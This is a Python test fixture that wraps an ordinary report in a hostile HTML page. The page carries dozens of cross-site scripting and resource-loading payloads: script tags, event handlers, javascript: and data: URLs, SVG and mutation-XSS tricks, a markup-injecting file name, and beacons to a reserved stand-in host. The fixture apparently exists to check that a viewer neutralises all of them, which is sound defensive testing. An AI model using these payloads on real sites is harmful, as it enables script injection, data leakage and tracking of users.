"""A report that attacks whoever looks at it: by scripts, handlers, links, styles, outside images.

Its figures are those of an ordinary report. Each attack, if it runs, sets ``hostile`` on its window and asks `OUTSIDE`
for an address that names it.
"""

from __future__ import annotations

from html import escape
from typing import Final

from tests.corpus.draft import Draft
from tests.corpus.html import write_html

OUTSIDE: Final = "http://outside.example"
"""Where the report wants to reach; a reserved name, and the browser of the tests resolves none."""

FILE_NAME: Final = "\"><img src=x onerror='window.hostile=1'>.html"
"""A file may be called this. No slash: it would begin a folder."""

TEXT: Final = f"</script></textarea></title><script>window.hostile='text';fetch('{OUTSIDE}/text')</script>{{{{7*7}}}}"
"""What the narrative says in letters: no page may take it for markup or for a template."""


def _run(name: str) -> str:
    return f"window.hostile='{name}';try{{top.hostile='{name}'}}catch(e){{}};new Image().src='{OUTSIDE}/{name}'"


HEAD: Final = f"""
<base href="{OUTSIDE}/base/" target="_top">
<meta http-equiv="refresh" content="1;url={OUTSIDE}/refresh">
<link rel="stylesheet" href="{OUTSIDE}/sheet.css"><link rel="preconnect" href="{OUTSIDE}">
<link rel="prefetch" href="{OUTSIDE}/prefetch"><link rel="icon" href="{OUTSIDE}/icon.png">
<script>{_run("script")}</script><script src="{OUTSIDE}/script.js"></script>
<style>
@import url("{OUTSIDE}/import.css");
@font-face {{ font-family: outside; src: url("{OUTSIDE}/font.woff"); }}
body {{ background: url({OUTSIDE}/background.png); font-family: outside; }}
body::before {{ content: "covered"; position: fixed; inset: 0; background: #c00; z-index: 2147483647; }}
td {{ display: none !important; visibility: hidden; opacity: 0; font-size: 0; }}
* {{ position: fixed !important; top: 0; left: 0; width: 100vw; height: 100vh; }}
</style>
"""

BODY: Final = f"""
<div style="position:fixed;inset:0;z-index:2147483647;background:#c00 url('{OUTSIDE}/inline.png')">
  <a href="javascript:{_run("link")}" ping="{OUTSIDE}/ping" id="hostile-link">按此查看</a></div>
<img src="{OUTSIDE}/image.png" onerror="{_run("onerror")}" srcset="{OUTSIDE}/srcset.png 2x">
<img src="x" onerror="{_run("image")}">
<svg onload="{_run("svg")}"><image xlink:href="{OUTSIDE}/svg.png" href="{OUTSIDE}/svg.png"></image>
  <script>{_run("svg-script")}</script><use href="{OUTSIDE}/use.svg#x"></use>
  <animate onbegin="{_run("animate")}" attributeName="x" dur="1s"></animate></svg>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror={_run("mxss")}&gt;"></table></math>
<noscript><p title="</noscript><img src=x onerror={_run("noscript")}>"></noscript>
<iframe srcdoc="<script>{_run("srcdoc")}</script>"></iframe><iframe src="{OUTSIDE}/frame"></iframe>
<iframe src="javascript:{_run("frame")}"></iframe><frameset><frame src="{OUTSIDE}/frameset"></frameset>
<object data="{OUTSIDE}/object"></object><embed src="{OUTSIDE}/embed"><applet code="{OUTSIDE}/applet"></applet>
<video src="{OUTSIDE}/video" poster="{OUTSIDE}/poster" autoplay onerror="{_run("video")}"></video>
<audio src="{OUTSIDE}/audio" autoplay></audio>
<input type="image" src="{OUTSIDE}/input" autofocus onfocus="{_run("focus")}">
<form action="{OUTSIDE}/form" id="hostile-form"><button formaction="javascript:{_run("button")}">提交</button></form>
<details open ontoggle="{_run("toggle")}"><summary>x</summary></details>
<marquee onstart="{_run("marquee")}">x</marquee>
<table background="{OUTSIDE}/table.png"><tr><td background="{OUTSIDE}/cell.png" onclick="{_run("click")}">x</td></tr>
</table>
<template><script>{_run("template")}</script></template><xmp><script>{_run("xmp")}</script></xmp>
<a href="data:text/html,<script>{_run("data")}</script>">x</a><a href=" java&#10;script:{_run("broken")}">x</a>
"""

EVENTS: Final = f' onload="{_run("onload")}" onpageshow="{_run("pageshow")}" onmousemove="{_run("mouse")}"'


def hostile_page(draft: Draft) -> bytes:
    """The draft as a page that does all this."""
    page = write_html(draft).decode()
    page = page.replace("<head>", f"<head>{HEAD}", 1).replace("<body>", f"<body{EVENTS}>{BODY}", 1)
    page = page.replace("<td", f'<td onmouseover="{_run("over")}"')
    return page.replace("</body>", f"<p>{escape(TEXT)}</p></body>").encode()
